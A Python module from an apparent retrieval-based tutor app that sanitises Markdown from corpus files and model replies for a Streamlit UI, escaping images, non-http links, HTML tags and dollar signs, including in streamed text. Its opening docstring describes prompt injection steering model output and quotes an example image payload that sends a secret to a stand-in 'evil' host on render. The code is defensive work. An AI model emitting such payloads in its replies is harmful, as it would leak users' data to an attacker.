"""Text made safe and plain for a Markdown UI (the Streamlit app), without importing one.

Corpus files are user-supplied and model replies can be steered by prompt injection, so
neither is trusted as markup. Two kinds of escape, on every text shown:

* for safety, everywhere outside code blocks: no image can form (every `![` is escaped, so
  inline, reference-style and bracket-in-alt images all become text or a plain link: an
  injected `![](https://evil/?q=secret)` would otherwise be fetched the moment it shows),
  and a link or a reference definition whose target is not http(s) (`data:`,
  `javascript:`, entity-encoded or not) is shown as text;
* for legibility, outside code: the text of a tag stays visible (a `<script>` reads as
  `<script>`) and `$` is literal, not LaTeX.

Code blocks are told apart by markdown-it's block parser (fences, indented code, code
inside lists); code spans by a linear scan of backtick runs. Every pattern here is matched
once per position from the start of its run, so a 100 KB adversarial text costs
milliseconds, not minutes.
"""

from __future__ import annotations

import html
import re
from collections.abc import Iterable, Iterator

from markdown_it import MarkdownIt

from rag.entry import Entry, Origin
from rag.redact import redact
from rag.text import clip

OFFLINE_STATUS = "Offline tutor: set OPENAI_API_KEY or OPENAI_BASE_URL for LLM answers"

_blocks = MarkdownIt("commonmark").enable(["table", "strikethrough"]).disable("inline")
_TAG_START = re.compile(r"<(?=[A-Za-z/!?])")
_IMAGE_START = re.compile(r"(?<!\\)((?:\\\\)*)!\[")  # `![` not escaped by an odd run of backslashes
_DOLLAR = re.compile(r"(?<!\\)((?:\\\\)*)\$")
_LINK_TARGET = re.compile(r"\]\(\s*<?([^\s()\]<>]*)")
_REFERENCE_DEFINITION = re.compile(
    r"^([ \t>]*(?:(?:[-*+]|\d{1,9}[.)])[ \t]+)?)\[([^\]\n]{0,999})\]:[ \t]*<?(\S*)", re.MULTILINE
)
_LIVE_HOLD = re.compile(
    r"(?:(?<!\\)\\*!?|<|\]|\]\(\s*<?[^\s()\]<>]{0,300}|(?:^|\n)[ \t>]*(?:(?:[-*+]|\d{1,9}[.)])[ \t]+)?\[[^\n]*)$"
)
_LIVE_TAIL = 2400  # the hold never looks further back than this
_SCHEME = re.compile(r"^([A-Za-z][A-Za-z0-9+.\-]*):")
_BACKSLASH_ESCAPE = re.compile(r"\\([!-/:-@\[-`{-~])")
_BACKTICKS = re.compile(r"(?<!\\)(\\*)(`+)")
_MARKER = re.compile(r"\[([1-9]\d{0,2})\](?!\()")
_URL_CREDENTIALS = re.compile(r"(?<=://)[^/@\s]+@")
SAFE_SCHEMES = ("http", "https")


def safe_markdown(text: str | None) -> str:
    """Markdown that cannot load an image or open a non-http link; its HTML shows as text, its `$` literal."""
    if not text:
        return ""
    lines = text.splitlines(keepends=True)
    code = [False] * len(lines)
    groups: list[tuple[int, int]] = []
    taken = [False] * len(lines)
    for token in _blocks.parse(text):
        if token.map is None:
            continue
        start, end = token.map
        if token.type in ("fence", "code_block"):
            for i in range(start, min(end, len(lines))):
                code[i] = True
        elif token.type == "inline" and not any(taken[start:end]):
            groups.append((start, end))
            for i in range(start, min(end, len(lines))):
                taken[i] = True
    starts = {start: end for start, end in groups}
    out: list[str] = []
    i = 0
    while i < len(lines):
        if code[i]:
            out.append(lines[i])
            i += 1
            continue
        end = starts.get(i, i + 1)
        out.append(_escape_prose("".join(lines[i:end])))
        i = end
    return "".join(out)


def _escape_prose(text: str) -> str:
    """One block of prose: safety escapes on all of it, legibility escapes outside code spans."""
    text = _defuse_links(_IMAGE_START.sub(_image_as_link, text))
    pieces: list[str] = []
    last = 0
    for start, end in _code_spans(text):
        pieces.append(_escape_plain(text[last:start]))
        pieces.append(text[start:end])
        last = end
    pieces.append(_escape_plain(text[last:]))
    return "".join(pieces)


def _image_as_link(match: re.Match) -> str:
    """`![alt](url)` -> `[image: alt](url)`: the same words and target, never fetched."""
    rest = match.string[match.end() : match.end() + 1]
    return match.group(1) + ("[image: untitled" if rest == "]" else "[image: ")


def _escape_plain(text: str) -> str:
    text = _TAG_START.sub("&lt;", text)
    return _DOLLAR.sub(r"\1\\$", text)


def _code_spans(text: str) -> list[tuple[int, int]]:
    """(start, end) of each code span: a backtick run closed by the next run of the same length (linear)."""
    runs: list[tuple[int, int]] = []  # (start, length) of unescaped backtick runs
    for m in _BACKTICKS.finditer(text):
        start, length = m.start(2), len(m.group(2))
        if len(m.group(1)) % 2:  # `\`` : the first backtick is literal
            start, length = start + 1, length - 1
        if length:
            runs.append((start, length))
    following: list[int | None] = [None] * len(runs)
    last_of_length: dict[int, int] = {}
    for index in range(len(runs) - 1, -1, -1):
        following[index] = last_of_length.get(runs[index][1])
        last_of_length[runs[index][1]] = index
    spans = []
    index = 0
    while index < len(runs):
        closer = following[index]
        if closer is None:
            index += 1
            continue
        spans.append((runs[index][0], runs[closer][0] + runs[closer][1]))
        index = closer + 1
    return spans


def _unsafe_target(target: str) -> bool:
    """A link target a browser must not open from our text: any scheme but http(s)."""
    target = html.unescape(_BACKSLASH_ESCAPE.sub(r"\1", target))
    target = "".join(ch for ch in target if ch.isprintable() and not ch.isspace())
    scheme = _SCHEME.match(target)
    return bool(scheme) and scheme.group(1).lower() not in SAFE_SCHEMES


def _defuse_links(text: str) -> str:
    text = _LINK_TARGET.sub(lambda m: "]\\(" + m.group(0)[2:] if _unsafe_target(m.group(1)) else m.group(0), text)
    return _REFERENCE_DEFINITION.sub(
        lambda m: (
            f"{m.group(1)}\\[{m.group(2)}]:{m.group(0)[len(m.group(1)) + len(m.group(2)) + 3 :]}"
            if _unsafe_target(m.group(3))
            else m.group(0)
        ),
        text,
    )


def safe_stream(deltas: Iterable[str]) -> Iterator[str]:
    """`safe_markdown` for text that arrives in pieces, for a live preview while it streams.

    A piece ending in `<`, `!`, `]` or backslashes is held back until the next one shows
    whether it starts a tag, an image or a link, an unfinished link target until it ends and
    a line that may be a reference definition (`[x]: data:...`) until it is complete, so
    each target's scheme can be judged. Code is not told apart (a streamed `<` in code briefly
    reads `&lt;`): the finished answer is rendered again with `safe_markdown`.
    """
    pending = ""
    for delta in deltas:
        if not delta:
            continue
        text = pending + str(delta)
        tail_start = max(0, len(text) - _LIVE_TAIL)
        held = _LIVE_HOLD.search(text, tail_start)
        cut = held.start() if held else len(text)
        text, pending = text[:cut], text[cut:]
        if text:
            yield _escape_live(text)
    if pending:
        yield _escape_live(pending)


def _escape_live(text: str) -> str:
    return _escape_plain(_defuse_links(_IMAGE_START.sub(r"\1\\![", text)))


def highlight_markers(text: str, markers: Iterable[int]) -> str:
    """Make the `[n]` citation markers that have a source card stand out in the answer."""
    known = {int(m) for m in markers}
    return _MARKER.sub(lambda m: f"**[{m.group(1)}]**" if int(m.group(1)) in known else m.group(0), text)


def safe_label(text: str | None) -> str:
    """One line of safe Markdown for a widget label (a quiz choice, a radio option)."""
    return safe_markdown(" ".join(str(text or "").split()))


def origins_markdown(origins: Iterable[Origin]) -> str:
    """'DataCamp: [title](url)' per origin, one list item each (plain name when no link)."""
    lines = []
    for origin in origins:
        name = safe_markdown(origin.name)
        if origin.url and origin.url.startswith(("https://", "http://")):
            title = safe_markdown(origin.title or origin.url).replace("[", "(").replace("]", ")")
            lines.append(f"- {name}: [{title}]({origin.url.replace(')', '%29').replace(' ', '%20')})")
        else:
            lines.append(f"- {name}")
    return "\n".join(lines)


def entry_heading(entry: Entry) -> str:
    """'Q10 · How would you handle model rollback…' as plain, escaped Markdown."""
    return safe_markdown(entry.label)


def split_coach_question(answer: str, question: str | None) -> tuple[str, str | None]:
    """The answer without its closing "**Coach question:** ..." line, and that question,
    so the UI can set it apart; (answer, None) when the line is not there as written."""
    line = f"**Coach question:** {question}"
    if question and line in answer:
        return answer.replace(line, "").rstrip(), question
    return answer, None


def prompt_markdown(prompt: str) -> str:
    """A quiz question in bold; what follows its first paragraph (an excerpt) as a quote."""
    first, _, rest = safe_markdown(prompt).strip().partition("\n\n")
    text = f"**{first.strip()}**"
    if rest.strip():
        text += "\n\n" + "\n".join(f"> {line}" for line in rest.strip().splitlines())
    return text


def choices_markdown(choices: list[str], answer: int | None, chosen: int | None) -> str:
    """Multiple-choice options after grading: the right one marked, a wrong pick struck through."""
    lines = []
    for i, choice in enumerate(choices):
        text = safe_markdown(choice)
        if i == answer:
            lines.append(f":green[:material/check_circle:] **{text}**")
        elif i == chosen:
            lines.append(f":red[:material/cancel:] ~~{text}~~")
        else:
            lines.append(f":gray[:material/radio_button_unchecked:] :gray[{text}]")
    return "  \n".join(lines)


def one_line(text: str, limit: int = 90) -> str:
    """Whitespace collapsed and cut at a word boundary, for labels."""
    return clip(text, limit)


def backend_status(settings, llm=None) -> str:
    """The sidebar's one line about who writes the answers, in plain words, key never shown."""
    if llm is None or not settings.llm_configured:
        return OFFLINE_STATUS
    described = llm.describe() if hasattr(llm, "describe") else f"{settings.chat_model} at {settings.openai_base_url}"
    secret = settings.openai_api_key.get_secret_value() if settings.openai_api_key else None
    return redact(f"Using {_URL_CREDENTIALS.sub('', described)}", secret)
